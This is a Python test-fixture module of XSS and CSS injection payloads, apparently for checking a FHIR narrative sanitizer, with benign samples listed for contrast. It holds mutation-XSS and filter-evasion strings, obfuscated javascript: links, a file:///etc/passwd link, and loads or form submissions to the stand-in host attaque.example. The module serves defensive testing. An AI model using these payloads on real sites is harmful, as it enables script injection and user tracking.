"""Attacks by narrative, each with what its refusal names and what it does in a browser unfiltered.

Families: the XSS filter evasion cheat sheet of OWASP, mutation XSS (what XML and HTML read
differently), CSS that loads or covers, and what takes data or the page itself. `hit()` is of
the page of the test; `attaque.example` is the other server.
"""

from dataclasses import dataclass
from typing import Final, Literal

Effect = Literal["script", "load", "cover"]
"""What an attack does when it is inserted by `innerHTML`, its links followed."""

IMG: Final = "<img src='data:image/png,' onerror='hit()'/>"
FAR: Final = "https://attaque.example/suivi"


@dataclass(frozen=True, slots=True)
class Attack:
    """A narrative that must be refused."""

    content: str
    """What is in the div, or a complete text that begins with a declaration or an element."""
    named: str
    """What the refusal names: an element, attribute, property or form."""
    effect: Effect | None = None
    """What it does in Chromium; None where it does nothing without a person, or in others only."""
    complete: bool = False
    """Whether `content` is the complete text."""

    @property
    def text(self) -> str:
        """The value of `text.div`."""
        return self.content if self.complete else div(self.content)


def div(content: str) -> str:
    """A narrative with that content."""
    return f'<div xmlns="http://www.w3.org/1999/xhtml">{content}</div>'


def _styled(style: str, named: str, effect: Effect | None = None) -> Attack:
    """An attack by the style of a paragraph."""
    return Attack(f"<p style='{style}'>a</p>", named, effect)


def _link(address: str, named: str, effect: Effect | None = None) -> Attack:
    return Attack(f'<a href="{address}">a</a>', named, effect)


MUTATIONS: Final = (
    Attack(f"<!-->{IMG}-->", "commentaire", "script"),
    Attack(f"<!--->{IMG}-->", "commentaire", "script"),
    Attack(f"<!--{IMG}-->", "commentaire"),
    Attack(f"<!--[if gte IE 4]>{IMG}<![endif]-->", "commentaire"),
    Attack(f"<!-- --!>{IMG}-->", "bien formé", "script"),
    Attack(f"<![CDATA[>{IMG}]]>", "CDATA", "script"),
    Attack(f"<![CDATA[{IMG}]]>", "CDATA"),
    Attack(f"<p title='a'><![CDATA[</p><b>{IMG}]]></p>", "CDATA", "script"),
    Attack(f"<?x >{IMG}?>", "instruction de traitement", "script"),
    Attack(f"<?php echo '>{IMG}' ?>", "instruction de traitement", "script"),
    Attack(f"<?xml-stylesheet href='{FAR}'?>", "instruction de traitement"),
    Attack(f'<?xml version="1.0"?>{div("a")}', "déclaration XML", complete=True),
    Attack(f'<!DOCTYPE div [<!ENTITY a "{FAR}">]>{div("&a;")}', "DOCTYPE", complete=True),
    Attack(f'<!DOCTYPE div SYSTEM "{FAR}">{div("a")}', "DOCTYPE", complete=True),
    Attack("<svg onload='hit()'/>", "svg"),
    Attack("<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>", "espace de noms"),
    Attack(f"<svg><style>&lt;/style>{IMG}</style></svg>", "svg", "script"),
    Attack("<svg><animate onbegin='hit()' attributeName='x' dur='1s'/></svg>", "svg", "script"),
    Attack("<svg><a href='javascript:hit()'><text y='9'>a</text></a></svg>", "svg"),
    Attack(f"<svg><image href='{FAR}'/></svg>", "svg", "load"),
    Attack(f"<math><mtext>{IMG}</mtext></math>", "math", "script"),
    Attack(
        "<form><math><mtext><form></form><mglyph><style></style></mglyph></mtext></math></form>",
        "form",
    ),
    Attack(f"<noscript><p title='&lt;/noscript>{IMG.replace(chr(39), '')}'/></noscript>", "noscr"),
    Attack(f"<template>{IMG}</template>", "template"),
    Attack(f"<plaintext>{IMG}</plaintext>", "plaintext"),
    Attack(f"<xmp><p title='&lt;/xmp>'/>{IMG}</xmp>", "xmp"),
    Attack(f"<listing>{IMG}</listing>", "listing", "script"),
    Attack(f"<noembed>{IMG}</noembed>", "noembed"),
    Attack(f"<textarea>{IMG}</textarea>", "textarea"),
    Attack(f"<title>{IMG}</title>", "title"),
    Attack(f"<select><option>{IMG}</option></select>", "select", "script"),
    Attack("<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='a.png' alt='a'/>", "h:img"),
    Attack("<x:p xmlns:x='urn:x'>a</x:p>", "espace de noms"),
    Attack("<p xmlns='urn:x'>a</p>", "espace de noms"),
    Attack("<img src='a.png' xmlns:o='urn:o' o:onerror='hit()'/>", "onerror"),
    Attack("<a xmlns:l='http://www.w3.org/1999/xlink' l:href='javascript:hit()'>a</a>", "href"),
    Attack(div("a") + div(IMG), "bien formé", "script", complete=True),
    Attack(f"a</div>{IMG}<div>", "bien formé", "script"),
)
"""What XML and HTML read differently, or what becomes another thing when it is read again."""

EVASIONS: Final = (
    Attack("<script>hit()</script>", "script"),
    Attack(f"<script src='{FAR}'></script>", "script"),
    Attack("<SCRIPT>hit()</SCRIPT>", "SCRIPT"),
    Attack("<scr<script>ipt>hit()</script>", "bien formé"),
    Attack("<<script>hit()//<</script>", "bien formé"),
    Attack(IMG, "onerror", "script"),
    Attack("<IMG SRC='data:image/png,' ONERROR='hit()'/>", "IMG", "script"),
    Attack("<img src=data:image/png, onerror=hit()>", "bien formé", "script"),
    Attack("<img/src='data:image/png,'/onerror='hit()'/>", "bien formé", "script"),
    Attack("<img src='data:image/png,' onerror='&#104;&#x69;t()'/>", "onerror", "script"),
    Attack("<img src='data:image/png,'\n onerror\n=\n'hit()'/>", "onerror", "script"),
    Attack('<img """><script>hit()</script>"', "bien formé"),
    Attack("<p onclick='hit()'>a</p>", "onclick"),
    Attack("<p ONMOUSEOVER='hit()'>a</p>", "ONMOUSEOVER"),
    Attack("<p onpointerrawupdate='hit()'>a</p>", "onpointerrawupdate"),
    Attack("<p tabindex='1' onfocus='hit()' autofocus='x'>a</p>", "onfocus", "script"),
    Attack("<details open='x' ontoggle='hit()'>a</details>", "details", "script"),
    Attack("<video><source onerror='hit()' src='x:'/></video>", "video", "script"),
    Attack("<audio src='x:' onerror='hit()'></audio>", "audio", "script"),
    Attack("<marquee onstart='hit()'>a</marquee>", "marquee"),
    Attack("<body onload='hit()'>a</body>", "body"),
    Attack("<iframe src='javascript:parent.hit()'></iframe>", "iframe", "script"),
    Attack("<iframe srcdoc='&lt;script>parent.hit()&lt;/script>'></iframe>", "iframe", "script"),
    Attack(f"<iframe src='{FAR}'></iframe>", "iframe", "load"),
    Attack(f"<object data='{FAR}'></object>", "object", "load"),
    Attack(f"<embed src='{FAR}'></embed>", "embed", "load"),
    Attack("<frameset><frame src='javascript:hit()'/></frameset>", "frameset"),
    Attack("<applet code='x'></applet>", "applet"),
    _link("javascript:hit()", "javascript:", "script"),
    _link(" JaVaScRiPt:hit()", "javascript:", "script"),
    _link("java&#9;script:hit()", "javascript:", "script"),
    _link("java&#x0A;script&#58;hit()", "javascript:", "script"),
    _link("javascript&colon;hit()", "bien formé", "script"),
    _link("&#14;javascript:hit()", "bien formé", "script"),
    _link("javascript://attaque.example/%0Ahit()", "javascript:", "script"),
    _link("vbscript:hit()", "vbscript:"),
    _link("data:text/html,&lt;script>hit()&lt;/script>", "data:"),
    _link("blob:https://attaque.example/1", "blob:"),
    _link("file:///etc/passwd", "file:"),
    _link("feed:javascript:hit()", "feed:"),
    Attack("<blockquote cite='javascript:hit()'>a</blockquote>", "cite"),
    Attack("<img src='javascript:hit()'/>", "src"),
    Attack("<table background='javascript:hit()'><tr><td>a</td></tr></table>", "background"),
)
"""Script by elements, by events and by links."""

LOADS: Final = (
    Attack(f"<img src='{FAR}'/>", "src", "load"),
    Attack("<img src='//attaque.example/suivi'/>", "src", "load"),
    Attack("<img src='/\\attaque.example/suivi'/>", "src", "load"),
    Attack("<img src='\\\\attaque.example/suivi'/>", "src", "load"),
    Attack("<img src='/&#9;/attaque.example/suivi'/>", "src", "load"),
    Attack("<img src='data:text/html,a'/>", "src"),
    Attack(f"<img src='a.png' srcset='{FAR}'/>", "srcset", "load"),
    Attack("<img src='a.png' lowsrc='x'/>", "lowsrc"),
    Attack(f"<p src='{FAR}'>a</p>", "src"),
    Attack(f"<a href='#' ping='{FAR}'>a</a>", "ping"),
    Attack(f"<picture><source srcset='{FAR}'/><img src='a.png'/></picture>", "picture", "load"),
    Attack(f"<table background='{FAR}'><tr><td>a</td></tr></table>", "background", "load"),
    Attack(f"<style>@import '{FAR}';</style>", "style", "load"),
    Attack(f"<link rel='stylesheet' href='{FAR}'/>", "link", "load"),
    Attack(f"<base href='{FAR}'/>", "base"),
    Attack(f"<meta http-equiv='refresh' content='0;url={FAR}'/>", "meta"),
    Attack(f"<form action='{FAR}'><p>a</p></form>", "form"),
    Attack("<input value='a'/>", "input"),
    Attack(f"<button formaction='{FAR}'>a</button>", "button"),
    Attack("<img src='a.png' name='cookie'/>", "name"),
    Attack("<p contenteditable='true'>a</p>", "contenteditable"),
    Attack("<p is='x-y'>a</p>", "is"),
)
"""What loads an address, takes data, or replaces something of the page."""

STYLES: Final = (
    Attack(
        "<b style='font-size:12em'><a href='#' style='font-size:12em; line-height:0'>a</a></b>",
        "tailles",
        "cover",
    ),
    Attack(
        "<p style='font-size:200px'><a href='#' style='padding:12em'>a</a></p>", "tailles", "cover"
    ),
    Attack(f"{'<big>' * 40}a{'</big>' * 40}", "tailles"),
    Attack("<b style='font-size:5em'/><b style='font-size:5em'/>a", "tailles"),
    _styled(f"background: url({FAR})", "url", "load"),
    _styled(f'background: url("{FAR}")', "url", "load"),
    _styled("background: url(//attaque.example/a)", "url", "load"),
    _styled("background: url(\\/\\/attaque.example/a)", "\\", "load"),
    _styled("background: url(/\n/attaque.example/a)", "url"),
    _styled(f"background: u\\72l({FAR})", "\\", "load"),
    _styled(f"background: ur/**/l({FAR})", "/*"),
    _styled(f'background: image-set("{FAR}" 1x)', "image-set", "load"),
    _styled(f'background: -webkit-image-set("{FAR}" 1x)', "-webkit-image-set", "load"),
    _styled(f'background: src("{FAR}")', "src"),
    _styled(f'background: image("{FAR}")', "image"),
    _styled(f"background: cross-fade(url({FAR}), red)", "url"),
    _styled(f"background: -webkit-cross-fade(url({FAR}), url({FAR}), 50%)", "url", "load"),
    _styled("background: element(#page)", "element"),
    _styled(f'--a: "{FAR}"; background: image-set(var(--a) 1x)', "--a", "load"),
    _styled(f"border-image: url({FAR}) 1", "url", "load"),
    _styled("border-image: url(a.png) 1", "border-image"),
    _styled(f"list-style-image: url({FAR}); display: list-item", "url", "load"),
    _styled(f"content: url({FAR})", "url", "load"),
    _styled(f"cursor: url({FAR}), auto", "url", "load"),
    _styled("mask-image: url(a.png)", "mask-image"),
    _styled("filter: url(a.svg)", "filter"),
    _styled("width: expression(hit())", "expression("),
    _styled("width: exp/**/ression(hit())", "/*"),
    _styled("behavior: url(a.htc)", "behavior:"),
    _styled("b/**/ehavior: url(a.htc)", "/*"),
    _styled("-moz-binding: url(a.xml)", "-moz-binding"),
    _styled("@import a", "@import"),
    _styled("color: red; } p { color: blue", "règle"),
    _styled("color: {a: b}", "lisible"),
    _styled("color: attr(title)", "attr"),
    _styled("position: fixed; top: 0; left: 0; width: 100%; height: 100%", "position", "cover"),
    _styled("POSITION: Absolute; inset: 0", "position", "cover"),
    _styled("color: red;;position:fixed;inset:0", "position", "cover"),
    _styled("null; position: fixed; inset: 0", "position", "cover"),
    _styled("position: sticky; top: 0", "position"),
    _styled("position: relative; top: -500px; height: 900px", "position", "cover"),
    _styled("transform: scale(99)", "transform", "cover"),
    _styled("scale: 99", "scale", "cover"),
    _styled("translate: 0 -500px; height: 900px", "translate", "cover"),
    _styled("zoom: 50", "zoom"),
    _styled("z-index: 999", "z-index"),
    _styled("margin-top: -700px; height: 900px", "margin-top", "cover"),
    _styled("margin: 0 0 0 -9in", "margin"),
    Attack("<a href='#' style='padding: 900px'>a</a>", "padding", "cover"),
    Attack("<a href='#' style='border: 900px solid'>a</a>", "border", "cover"),
    Attack("<a href='#' style='font-size: 2000px; line-height: 0'>a</a>", "font-size", "cover"),
    _styled("width: 100vw", "vw"),
    _styled("height: calc(100% + 900px)", "calc"),
    _styled("box-shadow: 0 0 0 9999px red", "box-shadow"),
    _styled("outline: 9999px solid red", "outline"),
    _styled("text-shadow: 0 -300px red", "text-shadow"),
    _styled("text-decoration: underline 900px red", "text-decoration"),
    _styled("animation: a 1s", "animation"),
    _styled("all: unset", "all"),
    _styled("pointer-events: none", "pointer-events"),
)
"""CSS that loads an address, runs script in old browsers, or covers the page."""

FAMILIES: Final = {"mutation": MUTATIONS, "evasion": EVASIONS, "load": LOADS, "style": STYLES}


ATTACKS: Final = tuple(attack for family in FAMILIES.values() for attack in family)


SOUND: Final = (
    "<p>Bonjour <b>Ada</b> &amp; co &#233;</p>",
    '<table class="grid" style="color: red"><tr><td colspan="2" xml:lang="fr">a</td></tr></table>',
    '<a href="https://hl7.org">HL7</a><a href="#x">b</a><a name="y">c</a>',
    '<a href="Patient/1">p</a><img src="#photo" alt="x"/><img src="data:image/png;base64,AA"/>',
    '<a href="mailto:ada@exemple.org">m</a><a href="tel:+33123456789">t</a>',
    '<p style="background-image: url(trait.png)">a</p>',
    "<p style='background: url(\"data:image/png;base64,AA==\") repeat-y; padding:0px 4px'>a</p>",
    '<p style="color: black; null">a</p>',
    '<p style="background-color: rgb(10, 20, 30); color: #fff; font: 700 12px/1.5 Arial">a</p>',
    '<p style="text-indent: -2em; padding-left: 2em; border: 1px #F0F0F0 solid !important">a</p>',
    "<pre>a\n  b</pre><hr/><br/>",
    "<!-- un commentaire --><p>a</p>",
    '<p xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">a &lt;script&gt; b</p>',
    "<p><b/>a<span/><a name='z'/></p><p/><ul><li/><li>b</li></ul><table><tr><td/></tr></table>",
    "<dl><dt>a</dt><dd>b</dd></dl><blockquote cite='https://hl7.org'><p>a</p></blockquote>",
    "<p><a href='#n'>1 &gt; 0</a><q>x</q><sup>2</sup><tt>y</tt></p>",
)
"""Contents that FHIR allows."""
